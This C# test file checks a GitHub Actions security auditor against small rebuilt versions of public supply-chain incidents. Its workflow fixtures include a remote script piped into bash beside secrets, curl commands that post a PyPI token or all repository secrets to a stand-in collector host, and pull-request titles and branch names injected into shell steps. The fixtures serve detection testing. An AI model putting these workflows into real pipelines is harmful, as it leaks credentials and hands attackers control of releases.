using Warder.Engine.Findings;
using Warder.Testing;

namespace Warder.Engine.Tests.Exposure;

/// <summary>Public incidents, rebuilt small: each is caught by the checks that should have caught it, with its path.</summary>
public sealed class IncidentTests
{
    private const string Registry = ".codex/tokens/token_scope_map.yaml";
    private const string Workflow = ".github/workflows/ci.yml";

    [Fact]
    public void Codecov_2021_an_uploader_piped_into_a_shell_beside_the_tokens_of_the_job()
    {
        var found = Audit("""
            on: push
            jobs:
              test:
                runs-on: ubuntu-latest
                permissions: { contents: read }
                env:
                  AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}
                  NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
                steps:
                  - uses: actions/checkout@v4
                  - run: npm test
                  - run: bash <(curl -s https://uploader.example/bash)
                  - run: npm publish
                  - run: aws s3 sync dist s3://bucket

            """);

        var piped = found["pipe-to-shell-with-token"].ShouldHaveSingleItem();
        piped.Message.ShouldContain("AWS_SECRET_ACCESS_KEY");
        piped.Related[^1].Message.ShouldContain("runs here");
        found["broad-token-scope"].ShouldNotBeEmpty();
    }

    [Fact]
    public void Tj_actions_2025_a_moved_tag_in_a_job_that_holds_tokens()
    {
        var found = Audit("""
            on: pull_request
            jobs:
              lint:
                runs-on: ubuntu-latest
                permissions: { contents: read }
                env:
                  BOT_PAT: ${{ secrets.BOT_PAT }}
                steps:
                  - uses: actions/checkout@v4
                  - uses: tj-actions/changed-files@v45
                  - run: ./lint "$BOT_PAT"
              call:
                uses: other/workflows/.github/workflows/x.yml@main
                secrets: inherit

            """);

        var unpinned = found["unpinned-action-with-token"].ShouldHaveSingleItem();
        unpinned.Message.ShouldContain("tj-actions/changed-files@v45");
        unpinned.Message.ShouldContain("BOT_PAT");
        unpinned.IsPath.ShouldBeTrue();
        unpinned.Related[0].Location.Start.Line.ShouldBe(7);
        found["secrets-inherit"].ShouldHaveSingleItem();
    }

    [Fact]
    public void Ultralytics_2024_a_branch_name_as_code_and_a_token_left_over()
    {
        var found = Audit("""
            on: pull_request_target
            jobs:
              format:
                runs-on: ubuntu-latest
                permissions: { contents: write }
                steps:
                  - uses: actions/checkout@v4
                  - run: git pull origin ${{ github.head_ref || github.ref }}

            """, ("publish.yml", """
            on: { release: { types: [published] } }
            jobs:
              publish:
                runs-on: ubuntu-latest
                environment: pypi
                permissions: { contents: read, id-token: write }
                steps:
                  - uses: actions/checkout@v4
                  - uses: actions/cache@v4
                    with: { path: ~/.cache, key: pip }
                  - uses: pypa/gh-action-pypi-publish@76f52bc884231f62b9a034ebfe128415bbaabdfc
              old:
                runs-on: ubuntu-latest
                permissions: { contents: read }
                steps:
                  - env: { TWINE_PASSWORD: "${{ secrets.PYPI_API_TOKEN }}" }
                    run: twine upload dist/*

            """));

        var injected = found["template-injection"].ShouldHaveSingleItem();
        injected.Severity.ShouldBe(Severity.Error);
        injected.Related.ShouldNotBeEmpty();
        found["superseded-credential"].ShouldNotBeEmpty();
        found["oidc-beside-untrusted-code"].ShouldNotBeEmpty();
    }

    [Fact]
    public void Nx_2025_a_title_as_code_with_the_default_token()
    {
        var found = Audit("""
            on:
              pull_request_target:
                types: [opened, edited]
            jobs:
              validate:
                runs-on: ubuntu-latest
                steps:
                  - uses: actions/checkout@v4
                  - run: |
                      echo "Validating: ${{ github.event.pull_request.title }}"
                      node ./scripts/commit-lint.js

            """);

        found["template-injection"].ShouldHaveSingleItem().Severity.ShouldBe(Severity.Error);
        found["missing-permissions"].ShouldHaveSingleItem().Severity.ShouldBe(Severity.Error);
    }

    [Fact]
    public void GhostAction_2025_a_new_workflow_sends_registered_tokens_away()
    {
        var found = Audit("""
            name: Github Actions Security
            on: push
            jobs:
              send:
                runs-on: ubuntu-latest
                permissions: { contents: read }
                steps:
                  - run: |
                      curl -s -X POST -d 'PYPI=${{ secrets.PYPI_API_TOKEN }}' https://collector.example

            """, (Registry, """
            bot_tokens:
              PYPI_API_TOKEN:
                bot_identity: release-bot
                purpose: publishes
                permissions: [publish]
                authorized_workflows: [.github/workflows/release.yml]

            """));

        found["unauthorized-workflow"].ShouldHaveSingleItem();
        found["secret-in-script"].ShouldHaveSingleItem();
    }

    [Fact]
    public void Shai_Hulud_2025_a_workflow_dumps_every_secret()
    {
        var found = Audit("""
            on: { push: { branches: [shai-hulud] } }
            jobs:
              process:
                runs-on: ubuntu-latest
                permissions: { contents: read }
                steps:
                  - env:
                      DATA: ${{ toJSON(secrets) }}
                    run: curl -d "$DATA" https://collector.example

            """);

        found["all-secrets"].ShouldHaveSingleItem();
    }

    [Fact]
    public void Trivy_2026_a_pull_request_is_run_with_the_token_of_the_organisation()
    {
        var found = Audit("""
            on: pull_request_target
            jobs:
              api-diff:
                runs-on: ubuntu-latest
                permissions: { contents: write }
                steps:
                  - uses: actions/checkout@v4
                    with:
                      ref: ${{ github.event.pull_request.head.sha }}
                  - uses: ./.github/actions/setup
                  - env:
                      ORG_PAT: ${{ secrets.ORG_PAT }}
                    run: make diff

            """, (".github/actions/setup/action.yml", "name: setup\nruns:\n  using: composite\n  steps:\n    - run: echo\n      shell: bash\n"));

        var run = found["untrusted-code-with-token"].ShouldHaveSingleItem();
        run.Severity.ShouldBe(Severity.Critical);
        run.IsPath.ShouldBeTrue();
        run.Related[0].Message.ShouldContain("pull_request_target");
        run.Related.ShouldContain(r => r.Message.Contains("ORG_PAT", StringComparison.Ordinal));
    }

    [Fact]
    public void LiteLlm_2026_a_publish_token_beside_an_unpinned_scanner()
    {
        var found = Audit("""
            on: push
            jobs:
              publish:
                runs-on: ubuntu-latest
                permissions: { contents: read }
                env:
                  TWINE_PASSWORD: ${{ secrets.PYPI_PUBLISH_PASSWORD }}
                steps:
                  - uses: aquasecurity/trivy-action@0.28.0
                  - run: twine upload dist/*

            """);

        found["unpinned-action-with-token"].ShouldHaveSingleItem().Message.ShouldContain("PYPI_PUBLISH_PASSWORD");
    }

    [Fact]
    public void TanStack_2026_an_identity_beside_a_cache_and_installed_code()
    {
        var found = Audit("""
            on: push
            jobs:
              release:
                runs-on: ubuntu-latest
                permissions: { contents: read, id-token: write }
                steps:
                  - uses: actions/checkout@v4
                  - uses: actions/cache@v4
                    with: { path: ~/.pnpm-store, key: pnpm }
                  - run: pnpm install
                  - run: npm publish --provenance

            """);

        found["oidc-beside-untrusted-code"].ShouldHaveSingleItem().Related.Count.ShouldBe(2);
    }

    [Fact]
    public void A_token_near_its_end_is_told_before_the_releases_stop()
    {
        var found = Audit("""
            on: push
            jobs:
              release:
                runs-on: ubuntu-latest
                permissions: { contents: read }
                steps:
                  - env: { RELEASE_PAT: "${{ secrets.RELEASE_PAT }}" }
                    run: ./release

            """, (Registry, $"""
            bot_tokens:
              RELEASE_PAT:
                bot_identity: release-bot
                purpose: releases
                permissions: [contents]
                expires: {AuditRunner.Today.AddDays(5):yyyy-MM-dd}

            """));

        found["token-expiring"].ShouldHaveSingleItem();
    }

    private static ILookup<string, Finding> Audit(string workflow, params (string Path, string Text)[] others)
    {
        var files = new MemoryFiles().With(Workflow, workflow);
        foreach (var (path, text) in others)
        {
            files.With(path.Contains('/', StringComparison.Ordinal) ? path : ".github/workflows/" + path, text);
        }

        var result = AuditRunner.Run(files);
        result.Diagnostics.ShouldBeEmpty();
        return result.Findings.ToLookup(f => f.Rule.Slug, StringComparer.Ordinal);
    }
}
